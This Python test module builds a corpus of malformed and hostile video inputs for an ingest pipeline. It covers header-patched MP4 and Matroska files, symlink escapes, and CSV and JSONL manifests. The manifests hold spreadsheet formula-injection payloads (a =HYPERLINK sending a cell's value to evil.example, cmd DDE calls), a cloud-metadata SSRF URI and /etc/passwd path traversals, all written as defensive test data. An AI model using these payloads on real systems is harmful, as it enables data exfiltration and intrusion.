"""A corpus of hostile and odd inputs, written as real files (PyAV and the ffmpeg binary).

`write_corpus(base)` writes it under `base` and returns the sources to ingest and what
vidops must do with each input, by key: "kept" (through ingest and filter) or the reason code
of its rejection. A key is the input's path relative to `base` (normalised), or the URI as
listed when it is not a local path. Videos are tiny (160x128 and about that, 1-1.5 s) so the
whole corpus goes through ingest and filter in seconds; the huge ones only *declare* huge
sizes in their headers.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path

import av
import imageio_ffmpeg
import numpy as np
from skimage import data as images

from vidops.media.video import write_video

FFMPEG = imageio_ffmpeg.get_ffmpeg_exe()
W, H, FPS, FRAMES = 160, 128, 24, 36  # 1.5 s: over filter.min_duration_s and min_clip_s

# Display size the 16K file declares: 132 M pixels (~200 MB a decoded frame, ~400 MB as RGB),
# within FFmpeg's own image size check, so only vidops' limit stands in the way.
HUGE_W, HUGE_H = 15360, 8640
# A 16384x16384 frame is beyond FFmpeg's own image size check: its SPS is refused by the
# decoder; the container still declares the size.
HUGER = 16384

FORMULAS = {
    "caption": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "license": "+cmd|' /C calc'!A0",
    "caption2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "license2": "-1+1",
}


@dataclass
class Corpus:
    base: Path
    sources: list[str]
    expected: dict[str, str]  # key -> "kept" or a reason code
    notes: dict[str, str] = field(default_factory=dict)  # key -> what the input is


def ffmpeg(*args: str | Path) -> None:
    subprocess.run([FFMPEG, "-y", "-loglevel", "error", *map(str, args)], check=True,
                   timeout=60)


def _rgb(name: str) -> np.ndarray:
    image = getattr(images, name)()
    if image.ndim == 2:
        image = np.stack([image] * 3, axis=-1)
    return np.ascontiguousarray(image[..., :3]).astype(np.uint8)


def pan(name: str, width: int = W, height: int = H, frames: int = FRAMES,
        step: tuple[int, int] = (2, 1)) -> list[np.ndarray]:
    """A pan over one of scikit-image's photographs: sharp, moving, and unlike the others."""
    image = _rgb(name)
    dx, dy = step
    need_h, need_w = height + abs(dy) * frames, width + abs(dx) * frames
    reps = (-(-need_h // image.shape[0]), -(-need_w // image.shape[1]), 1)
    image = np.tile(image, reps)
    out = []
    for t in range(frames):
        x = dx * t if dx >= 0 else -dx * (frames - 1 - t)
        y = dy * t if dy >= 0 else -dy * (frames - 1 - t)
        out.append(np.ascontiguousarray(image[y:y + height, x:x + width]))
    return out


# ------------------------------------------------------------------------------------------
# MP4 surgery: patch what a header declares, without encoding anything big


def _box_path(data: bytes | bytearray, names: list[bytes]) -> list[int]:
    """Offsets of the boxes along `names` (the first match at each level)."""
    headers = {b"stsd": 16, b"avc1": 8 + 78}  # box header + fields before child boxes
    offsets, start, end = [], 0, len(data)
    for name in names:
        pos = start
        while pos + 8 <= end:
            size, kind = struct.unpack(">I4s", data[pos:pos + 8])
            if kind == name:
                break
            pos += size
        else:
            raise ValueError(f"no {name!r} box")
        offsets.append(pos)
        start, end = pos + headers.get(name, 8), pos + size
    return offsets


class _BitReader:
    def __init__(self, data: bytes) -> None:
        self.data, self.pos = data, 0

    def u(self, n: int) -> int:
        value = 0
        for _ in range(n):
            value = (value << 1) | (self.data[self.pos >> 3] >> (7 - (self.pos & 7))) & 1
            self.pos += 1
        return value

    def ue(self) -> int:
        zeros = 0
        while self.u(1) == 0:
            zeros += 1
        return (1 << zeros) - 1 + self.u(zeros)

    def se(self) -> int:
        k = self.ue()
        return (k + 1) // 2 if k % 2 else -(k // 2)


class _BitWriter:
    def __init__(self) -> None:
        self.bits: list[int] = []

    def u(self, n: int, value: int) -> None:
        self.bits.extend((value >> (n - 1 - i)) & 1 for i in range(n))

    def ue(self, value: int) -> None:
        x = value + 1
        self.u(x.bit_length() - 1, 0)
        self.u(x.bit_length(), x)

    def se(self, value: int) -> None:
        self.ue(2 * abs(value) - (value > 0))

    def bytes(self) -> bytes:
        bits = self.bits + [0] * (-len(self.bits) % 8)
        return bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8))


def _unescape(nal: bytes) -> bytes:
    return nal.replace(b"\x00\x00\x03", b"\x00\x00")


def _escape(rbsp: bytes) -> bytes:
    out, zeros = bytearray(), 0
    for byte in rbsp:
        if zeros >= 2 and byte <= 3:
            out.append(3)
            zeros = 0
        out.append(byte)
        zeros = zeros + 1 if byte == 0 else 0
    return bytes(out)


def _sps_with_size(sps: bytes, width: int, height: int) -> bytes:
    """An H.264 SPS NAL (header byte included) declaring width x height (multiples of 16)."""
    rbsp = _unescape(sps[1:])
    r, w = _BitReader(rbsp), _BitWriter()

    def copy_u(n: int) -> None:
        w.u(n, r.u(n))

    def copy_ue() -> int:
        value = r.ue()
        w.ue(value)
        return value

    profile = r.u(8)
    w.u(8, profile)
    copy_u(16)  # constraint flags, level
    copy_ue()  # seq_parameter_set_id
    if profile in (100, 110, 122, 244, 44, 83, 86, 118, 128, 138, 139, 134, 135):
        if copy_ue() == 3:  # chroma_format_idc
            copy_u(1)
        copy_ue()
        copy_ue()  # bit depths
        copy_u(1)  # qpprime_y_zero_transform_bypass
        if r.u(1):
            raise ValueError("SPS with scaling matrices: not handled")
        w.u(1, 0)
    copy_ue()  # log2_max_frame_num_minus4
    poc_type = copy_ue()
    if poc_type == 0:
        copy_ue()
    elif poc_type == 1:
        copy_u(1)
        w.se(r.se())
        w.se(r.se())
        for _ in range(copy_ue()):
            w.se(r.se())
    copy_ue()  # max_num_ref_frames
    copy_u(1)  # gaps_in_frame_num_value_allowed_flag
    r.ue()
    r.ue()
    w.ue(width // 16 - 1)
    w.ue(height // 16 - 1)  # frame_mbs_only (libx264 progressive): map units are MBs
    # The rest up to the stop bit unchanged (frame_mbs_only, direct_8x8, cropping, VUI).
    total = len(rbsp) * 8
    stop = total - 1
    while (rbsp[stop >> 3] >> (7 - (stop & 7))) & 1 == 0:
        stop -= 1
    while r.pos < stop:
        copy_u(1)
    w.u(1, 1)
    return sps[:1] + _escape(w.bytes())


def patch_mp4_size(src: Path, dst: Path, width: int, height: int) -> Path:
    """`src` (H.264 in MP4, index at the end, as PyAV writes it) declaring width x height in
    its SPS, sample entry and track header; the coded slices stay small."""
    data = bytearray(src.read_bytes())
    names = [b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd", b"avc1", b"avcC"]
    offsets = _box_path(data, names)
    avcc = offsets[-1]
    sps_len = struct.unpack(">H", data[avcc + 14:avcc + 16])[0]
    old = bytes(data[avcc + 16:avcc + 16 + sps_len])
    new = _sps_with_size(old, width, height)
    data[avcc + 14:avcc + 16 + sps_len] = struct.pack(">H", len(new)) + new
    delta = len(new) - len(old)
    mdat = data.find(b"mdat")
    assert 0 < mdat < offsets[0], "the index must come after the media data"
    for pos in offsets:  # every box on the path grows by delta
        struct.pack_into(">I", data, pos, struct.unpack(">I", data[pos:pos + 4])[0] + delta)
    struct.pack_into(">HH", data, offsets[6] + 8 + 24, width, height)  # avc1 width, height
    (tkhd,) = _box_path(data[offsets[1] + 8:], [b"tkhd"])
    tkhd += offsets[1] + 8
    struct.pack_into(">II", data, tkhd + 8 + 76, width << 16, height << 16)
    dst.write_bytes(bytes(data))
    return dst


def patch_mp4_duration(src: Path, dst: Path, seconds: int) -> Path:
    """`src` whose movie header, media header and edit list declare `seconds` (its samples
    unchanged). FFmpeg times MP4 from the sample tables, so this changes nothing it reports."""
    data = bytearray(src.read_bytes())
    moov, trak, _, mdhd = _box_path(data, [b"moov", b"trak", b"mdia", b"mdhd"])
    (mvhd,) = _box_path(data[moov + 8:], [b"mvhd"])
    mvhd += moov + 8
    movie_scale = struct.unpack(">I", data[mvhd + 20:mvhd + 24])[0]
    for box in (mvhd, mdhd):
        assert data[box + 8] == 0, "version 0 header expected"
        timescale = struct.unpack(">I", data[box + 20:box + 24])[0]
        struct.pack_into(">I", data, box + 24, min(seconds * timescale, 0xFFFFFFFE))
    (edts,) = _box_path(data[trak + 8:], [b"edts"])
    elst = trak + 8 + edts + 8
    struct.pack_into(">I", data, elst + 16, min(seconds * movie_scale, 0xFFFFFFFE))
    dst.write_bytes(bytes(data))
    return dst


def patch_mkv_duration(src: Path, dst: Path, seconds: float) -> Path:
    """`src` (Matroska, as PyAV writes it) whose segment Duration says `seconds`."""
    data = bytearray(src.read_bytes())
    at = data.find(b"\x44\x89\x88")  # Duration, an 8-byte float in TimestampScale units
    scale = data.find(b"\x2a\xd7\xb1\x83\x0f\x42\x40")  # TimestampScale 1000000 (1 ms)
    assert at > 0 and scale > 0, "Duration and a 1 ms TimestampScale expected"
    struct.pack_into(">d", data, at + 3, seconds * 1000.0)
    dst.write_bytes(bytes(data))
    return dst


# ------------------------------------------------------------------------------------------
# The corpus


def _vfr(path: Path, frames: list[np.ndarray]) -> None:
    """Variable frame rate: frame durations from 20 to 70 ms, irregular (seeded)."""
    rng = np.random.default_rng(7)
    with av.open(str(path), mode="w") as container:
        stream = container.add_stream("libx264", rate=FPS)
        stream.width, stream.height, stream.pix_fmt = W, H, "yuv420p"
        stream.codec_context.time_base = Fraction(1, 1000)
        stream.options = {"crf": "18", "threads": "1"}
        pts = 0
        for frame in frames:
            video = av.VideoFrame.from_ndarray(frame, format="rgb24")
            video.pts, video.time_base = pts, Fraction(1, 1000)
            pts += int(rng.integers(20, 71))
            container.mux(stream.encode(video))
        container.mux(stream.encode(None))


def write_corpus(base: Path) -> Corpus:
    base.mkdir(parents=True, exist_ok=True)
    root, listed, outside, scratch = (base / "corpus", base / "listed", base / "outside",
                                      base / "scratch")
    for folder in (root, listed / "videos", outside, scratch):
        folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}
    notes: dict[str, str] = {}

    def add(key: str, outcome: str, note: str) -> None:
        expected[key], notes[key] = outcome, note

    write_video(root / "good.mp4", pan("astronaut"), FPS)
    add("corpus/good.mp4", "kept", "a plain 160x128 H.264 clip (control)")

    # Huge declared frame size: a real 160x128 stream whose SPS, sample entry and track
    # header declare 15360x8640 (and 16384x16384, beyond FFmpeg's own limit).
    small = scratch / "small.mp4"
    write_video(small, pan("hubble_deep_field", frames=12), FPS)
    patch_mp4_size(small, root / "huge_16k.mp4", HUGE_W, HUGE_H)
    add("corpus/huge_16k.mp4", "too_large", f"H.264 MP4 declaring {HUGE_W}x{HUGE_H} (SPS)")
    patch_mp4_size(small, root / "huge_16384.mp4", HUGER, HUGER)
    add("corpus/huge_16384.mp4", "unreadable",
        f"H.264 MP4 declaring {HUGER}x{HUGER}: beyond FFmpeg's own image size check, the SPS "
        "is refused and the stream has no frame size")

    # Huge declared duration: a Matroska segment that says 100 hours (8.6 M frames at 24
    # fps); the same in an MP4's mvhd, mdhd and elst, which FFmpeg ignores (it times MP4
    # from the sample tables): that file is what it is, 12 frames.
    small_mkv = scratch / "small.mkv"
    write_video(small_mkv, pan("hubble_deep_field", frames=12, step=(1, 1)), FPS)
    patch_mkv_duration(small_mkv, root / "huge_duration.mkv", 100 * 3600)
    add("corpus/huge_duration.mkv", "too_large", "Matroska Duration of 100 h")
    patch_mp4_duration(small, root / "header_duration.mp4", 100 * 3600)
    add("corpus/header_duration.mp4", "too_short",
        "mvhd/mdhd/elst declare 100 h; 12 real frames")

    _vfr(root / "vfr.mp4", pan("coffee", step=(3, 0)))
    add("corpus/vfr.mp4", "kept", "variable frame rate: frame durations 20-70 ms")

    # A phone video: landscape pixels with a display matrix saying "turn 90 degrees".
    write_video(scratch / "landscape.mp4", pan("chelsea", step=(2, 2)), FPS)
    ffmpeg("-display_rotation", "90", "-i", scratch / "landscape.mp4", "-c", "copy",
           root / "rotated.mp4")
    add("corpus/rotated.mp4", "kept", "display matrix rotation 90 (portrait on display)")

    write_video(scratch / "rocket.mp4", pan("rocket", step=(-2, 1)), FPS, crf=10)
    ffmpeg("-i", scratch / "rocket.mp4", "-c:v", "libx264", "-pix_fmt", "yuv420p10le",
           "-profile:v", "high10", "-crf", "12", root / "ten_bit.mp4")
    add("corpus/ten_bit.mp4", "kept", "10-bit 4:2:0 (yuv420p10le, High 10)")
    write_video(scratch / "immuno.mp4", pan("immunohistochemistry", step=(1, 2)), FPS, crf=10)
    ffmpeg("-i", scratch / "immuno.mp4", "-c:v", "libx264", "-pix_fmt", "yuv444p",
           "-profile:v", "high444", "-crf", "12", root / "yuv444.mp4")
    add("corpus/yuv444.mp4", "kept", "4:4:4 (yuv444p, High 4:4:4)")

    ffmpeg("-f", "lavfi", "-i", "sine=frequency=440:duration=1", "-c:a", "aac",
           root / "audio_only.mp4")
    add("corpus/audio_only.mp4", "no_video", "AAC audio only, in MP4")

    write_video(root / "single_frame.mp4", pan("coins", frames=1), FPS)
    add("corpus/single_frame.mp4", "too_short", "one frame")
    ffmpeg("-f", "lavfi", "-i", f"testsrc=size={W}x{H}:rate={FPS}", "-frames:v", "0",
           "-c:v", "libx264", root / "zero_frames.mp4")
    add("corpus/zero_frames.mp4", "no_video", "ffmpeg -frames:v 0: an MP4 without frames, "
        "whose video track FFmpeg does not even list")

    # Resolution change midway: two MPEG-TS segments of different sizes, concatenated.
    write_video(scratch / "a.mp4", pan("moon", step=(3, 1)), FPS)
    write_video(scratch / "b.mp4", pan("page", width=192, height=144), FPS)
    for name in ("a", "b"):
        ffmpeg("-i", scratch / f"{name}.mp4", "-c", "copy", "-bsf:v", "h264_mp4toannexb",
               "-f", "mpegts", scratch / f"{name}.ts")
    (root / "res_change.ts").write_bytes((scratch / "a.ts").read_bytes()
                                         + (scratch / "b.ts").read_bytes())
    add("corpus/res_change.ts", "unsupported", "160x128 then 192x144 (cat a.ts b.ts)")

    # Names and captions that are not UTF-8, and an enormous caption.
    latin_name = os.fsdecode(b"caf\xe9.mp4")
    write_video(root / latin_name, pan("camera", step=(0, 2)), FPS)
    add("corpus/caf\\xe9.mp4", "kept", "file name with a latin-1 byte (b'caf\\xe9.mp4')")
    write_video(root / "latin1.mp4", pan("brick", step=(3, 0)), FPS)
    (root / "latin1.txt").write_bytes("café au lait, crème brûlée".encode("latin-1"))
    add("corpus/latin1.mp4", "kept", "caption sidecar in latin-1")
    write_video(root / "long_caption.mp4", pan("gravel", step=(0, 3)), FPS)
    (root / "long_caption.txt").write_text("a very long caption " * 5000, encoding="utf-8")
    add("corpus/long_caption.mp4", "kept", "a 100,000-character caption sidecar")

    # Symlinks: a directory loop (never walked), a file link loop and a dangling link.
    (root / "loop").mkdir()
    (root / "loop" / "back").symlink_to("..", target_is_directory=True)
    (root / "loop" / "self.mp4").symlink_to("self.mp4")
    add("corpus/loop/self.mp4", "unreadable", "a symlink to itself")
    (root / "dangling.mp4").symlink_to("does-not-exist.mp4")
    add("corpus/dangling.mp4", "unreadable", "a symlink to a file that does not exist")
    write_video(outside / "secret.mp4", pan("clock"), FPS)
    (root / "escape.mp4").symlink_to(outside / "secret.mp4")
    add("corpus/escape.mp4", "path_escape", "a symlink out of the source folder")

    # Manifests: formula injection, unsupported schemes, paths out of the root.
    write_video(listed / "videos" / "formula.mp4", pan("grass", step=(2, 2)), FPS)
    write_video(listed / "videos" / "formula2.mp4", pan("colorwheel", step=(1, 2)), FPS)
    write_video(outside / "secret2.mp4", pan("horse"), FPS)
    csv_rows = [
        ("videos/formula.mp4", FORMULAS["caption"], FORMULAS["license"]),
        ("gopher://evil.example/1/clip.mp4", "gopher", ""),
        ("ftp://evil.example/clip.mp4", "ftp", ""),
        ("http://169.254.169.254/latest/meta-data/clip.mp4", "metadata service", ""),
        ("simplecache::http://evil.example/clip.mp4", "fsspec chain", ""),
        ("../outside/secret.mp4", "escape by dots", ""),
        ("/etc/passwd", "escape by absolute path", ""),
    ]
    lines = ["uri,caption,license"]
    for uri, caption, license_ in csv_rows:
        cells = [uri, caption, license_]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    (listed / "list.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    add("listed/videos/formula.mp4", "kept", "CSV row: =HYPERLINK caption, +cmd licence")
    add("gopher://evil.example/1/clip.mp4", "unsupported_scheme", "CSV row: gopher://")
    add("ftp://evil.example/clip.mp4", "unsupported_scheme", "CSV row: ftp://")
    add("http://169.254.169.254/latest/meta-data/clip.mp4", "unsupported_scheme",
        "CSV row: http:// (cloud metadata address)")
    add("simplecache::http://evil.example/clip.mp4", "unsupported_scheme",
        "CSV row: fsspec chain through http")
    add("outside/secret.mp4", "path_escape", "CSV row: ../ out of the manifest's folder")
    add("/etc/passwd", "path_escape", "CSV row: absolute path elsewhere")
    (listed / "list.jsonl").write_text("\n".join(json.dumps(row) for row in [
        {"uri": "videos/formula2.mp4", "caption": FORMULAS["caption2"],
         "license": FORMULAS["license2"]},
        {"uri": "s3://bucket/clip.mp4"},
        {"uri": "videos/../../outside/secret2.mp4"},
    ]) + "\n", encoding="utf-8")
    add("listed/videos/formula2.mp4", "kept", "JSONL row: @SUM caption, -1+1 licence")
    add("s3://bucket/clip.mp4", "unsupported_scheme", "JSONL row: s3:// (not allow-listed)")
    add("outside/secret2.mp4", "path_escape", "JSONL row: videos/../../ out of the root")

    sources = [str(root), str(listed / "list.csv"), str(listed / "list.jsonl")]
    return Corpus(base, sources, expected, notes)


def key_of(uri: str, base: Path) -> str:
    """The corpus key of a recorded source_uri."""
    if "://" in uri:
        return uri
    path = Path(os.path.normpath(uri))
    try:
        return path.relative_to(Path(os.path.realpath(base))).as_posix()
    except ValueError:
        try:
            return path.relative_to(base).as_posix()
        except ValueError:
            return uri
